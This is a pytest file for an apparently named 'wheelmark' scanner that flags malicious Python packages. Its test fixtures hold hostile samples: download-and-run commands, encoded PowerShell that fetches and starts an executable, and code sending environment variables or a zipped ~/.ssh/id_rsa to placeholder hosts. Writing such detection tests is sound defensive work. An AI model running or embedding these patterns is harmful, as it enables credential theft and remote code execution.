"""Command lines as they are commonly written: what they fetch, unpack and hold, and files known by their paths."""

from __future__ import annotations

import base64

import pytest

from support.scan import finding_of, rules_of, scan_import, scan_sdist
from wheelmark.scan import Context, Severity
from wheelmark.scan.commands import fetched_files, programs, unpacked_archives
from wheelmark.scan.paths import WrittenPaths
from wheelmark.scan.values import GAP, Origin, Taint, Value

ADDRESS = "https://files.example.invalid/a/tool.exe"


@pytest.mark.parametrize(
    ("command", "path"),
    [
        (f"curl -o tool.exe {ADDRESS}", "tool.exe"),
        (f"curl {ADDRESS} --output C:/x/tool.exe && echo", "C:/x/tool.exe"),
        (f"curl -sSLo /tmp/t {ADDRESS}", "/tmp/t"),
        (f"curl -OLJ {ADDRESS}", "tool.exe"),
        (f"wget {ADDRESS}?x=1", "tool.exe"),
        (f"wget -qO /tmp/t {ADDRESS}", "/tmp/t"),
        (f"powershell -Command \"Invoke-WebRequest -Uri '{ADDRESS}' -OutFile 'C:\\x\\t.exe'\"", "C:\\x\\t.exe"),
        (f"powershell (New-Object Net.WebClient).DownloadFile('{ADDRESS}', 't.exe')", "t.exe"),
        (f"certutil -urlcache -split -f {ADDRESS} t.exe", "t.exe"),
        (f"bitsadmin /transfer job {ADDRESS} C:\\t.exe", "C:\\t.exe"),
    ],
)
def test_path_of_fetched_file_is_read(command: str, path: str) -> None:
    assert [found for _, found in fetched_files(command)] == [path]


@pytest.mark.parametrize("command", ["", "curl", "git clone https://x.example.invalid/a.git", "curl -o x"])
def test_command_that_fetches_nothing_to_a_file(command: str) -> None:
    assert fetched_files(command) == []


def test_unpacked_archive_and_its_folder_are_read() -> None:
    assert unpacked_archives("tar -xf a.tar.gz -C /tmp/a && ls") == [("a.tar.gz", "/tmp/a")]


def test_programs_of_a_command_line_are_read_and_decoded() -> None:
    encoded = base64.b64encode("Write-Output imitation".encode("utf-16-le")).decode()
    plain = base64.b64encode(b"echo imitation; exit").decode()
    assert [each.text for each in programs('python3 -c "import os; print(\\"a\\")"')] == ['import os; print("a")']
    assert [each.text for each in programs("pythonw.exe -W ignore -c 'import os'")] == ["import os"]
    assert [each.text for each in programs(f"powershell -w hidden -enc {encoded}")] == ["Write-Output imitation"]
    assert [each.text for each in programs(f"echo {plain} | base64 -d | sh")] == ["echo imitation; exit"]
    assert list(programs("powershell -enc AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")) == []


@pytest.mark.parametrize(
    ("written", "started", "marked"),
    [
        ("/tmp/a.sh", "bash /tmp/a.sh", True),
        (f"{GAP}/a.exe", "start a.exe", True),
        ("C:\\x\\tool.exe", "cd C:\\x && tool.exe", True),
        ("out", "about", False),
        ("x", "x", False),
        (GAP, "anything", False),
        ("/data/a.txt", "cat a.txt", False),
        ("1.py", "11.py", False),
    ],
)
def test_written_file_is_known_by_path_or_name(written: str, started: str, marked: bool) -> None:
    paths = WrittenPaths()
    paths.drop(Value(written), Origin(Taint.NETWORK, 1, "get"))
    assert paths.marked(Value(started)).has(Taint.DROPPED) is marked


@pytest.mark.parametrize(
    "source",
    [
        f"import os\nos.system('curl -o t.exe {ADDRESS}')\nos.system('t.exe')",
        f"import os\nos.system('wget {ADDRESS}')\nos.system('./tool.exe &')",
        (
            "import subprocess, tempfile, requests\nwith tempfile.NamedTemporaryFile('wb', delete=False) as f:\n"
            "    f.write(requests.get('https://x.example.invalid/f').content)\nsubprocess.call([f.name])"
        ),
        (
            "import os, tempfile, requests, zipfile\np = os.path.join(tempfile.gettempdir(), 'a.zip')\n"
            "open(p, 'wb').write(requests.get('https://x.example.invalid/f').content)\n"
            "zipfile.ZipFile(p).extractall('C:/appdata')\nos.startfile('C:/appdata/run.exe')"
        ),
        (
            "import os, requests, shutil\nopen('a.bin', 'wb').write(requests.get('https://x.example.invalid/f').content)\n"
            "shutil.move('a.bin', 'b.exe')\nos.startfile('b.exe')"
        ),
    ],
)
def test_fetched_file_that_is_started_is_found_on_its_way(source: str) -> None:
    finding = finding_of(scan_import(source), "dropped-file-run")
    assert (finding.severity, finding.context) == (Severity.CRITICAL, Context.IMPORT)


def test_two_temporary_files_are_told_apart() -> None:
    report = scan_import(
        "import subprocess, tempfile, requests\n"
        "a = tempfile.NamedTemporaryFile('wb')\n"
        "b = tempfile.NamedTemporaryFile('wb')\n"
        "a.write(requests.get('https://x.example.invalid/f').content)\n"
        "subprocess.call(['cat', b.name])\n"
    )
    assert "dropped-file-run" not in rules_of(report)


def test_program_in_a_shell_command_is_judged_itself() -> None:
    report = scan_sdist(
        {
            "setup.py": "import os\n"
            "os.system('python3 -c \"import os, requests; "
            "requests.post(\\'https://x.example.invalid\\', json=dict(os.environ))\"')"
        }
    )
    assert finding_of(report, "secrets-sent").severity is Severity.CRITICAL


def test_encoded_powershell_is_read_as_what_it_says() -> None:
    script = f"(New-Object Net.WebClient).DownloadFile('{ADDRESS}','t.exe'); Start-Process t.exe"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    report = scan_import(f"import subprocess\nsubprocess.run(['powershell', '-enc', '{encoded}'])")
    assert {"hidden-powershell", "shell-download-run"} <= rules_of(report)
    assert any("DownloadFile" in layer.text for layer in report.layers)


def test_secret_that_goes_through_an_archive_is_still_a_secret() -> None:
    report = scan_import(
        "import os, requests, zipfile\n"
        "with zipfile.ZipFile('out.zip', 'w') as z:\n"
        "    z.write(os.path.expanduser('~') + '/.ssh/id_rsa')\n"
        "requests.post('https://x.example.invalid', files={'f': open('out.zip', 'rb')})\n"
    )
    assert finding_of(report, "secrets-sent").severity is Severity.CRITICAL
